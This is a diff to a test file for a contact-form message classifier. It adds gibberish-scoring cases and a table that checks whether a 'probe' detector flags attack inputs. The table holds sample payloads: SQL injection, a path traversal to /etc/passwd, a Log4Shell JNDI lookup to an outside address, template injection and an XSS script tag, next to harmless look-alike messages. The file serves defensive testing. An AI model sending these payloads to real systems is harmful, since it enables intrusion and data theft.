@@ -98,6 +98,9 @@ describe('gibberish', () => {
       { name: 'Ana Maria Fuentes', company: 'Fuentes Brothers Limited', message: 'hdswxljvfeldakaderbdte' },
       36,
     ],
+    ['two words of random letters', { name: 'Ana', message: 'pxdlinozdtspgufr pdbroyqfcao' }, 36],
+    ['one long word', { name: 'Ana', message: 'Rechtsschutzversicherungsgesellschaft' }, 0],
+    ['two long words', { name: 'Ana', message: 'Angstschweißtherapie Rechtsschutz' }, 0],
     ['random letters in small letters', { name: 'wqzpxkvbtj', message: 'hqvxrlmwzkptbq' }, 36],
     ['random letters and a word', { name: 'Ana', message: 'hqvxrlmwzkptbq hello wonderful' }, 0],
     ['random letters and some words', { name: 'Ana', message: 'hqvxrlmwzkptbq qwzpxkvbtj hello all' }, 12],
@@ -108,6 +111,22 @@ describe('gibberish', () => {
     const found = verdictOf(values).reasons.find(({ name }) => name === 'gibberish');
     expect(found?.score ?? 0).toBe(points);
   });
+});
+
+test.each([
+  ["1' OR '1'='1", true],
+  ['../../../../../etc/passwd', true],
+  ['${jndi:ldap://203.0.113.9/a}', true],
+  ['{{7*7}}', true],
+  ['testing @@version', true],
+  ['1 UNION ALL SELECT NULL,table_name FROM information_schema.tables', true],
+  ['"><script>alert(1)</script>', true],
+  ['Your search field runs <script>alert(1)</script>, please escape what people type.', false],
+  ['The query SELECT name FROM shops UNION SELECT name FROM customers fails since your update of Monday.', false],
+  ['My password ends in two dots: ../ is that allowed?', false],
+  ['Can I have it with "or" = and engraved inside?', false],
+])('code for a vulnerability test: %s', (message, expected) => {
+  expect(namesOf(verdictOf({ name: 'Ana', message })).includes('probe')).toBe(expected);
 });
 
 test.each([
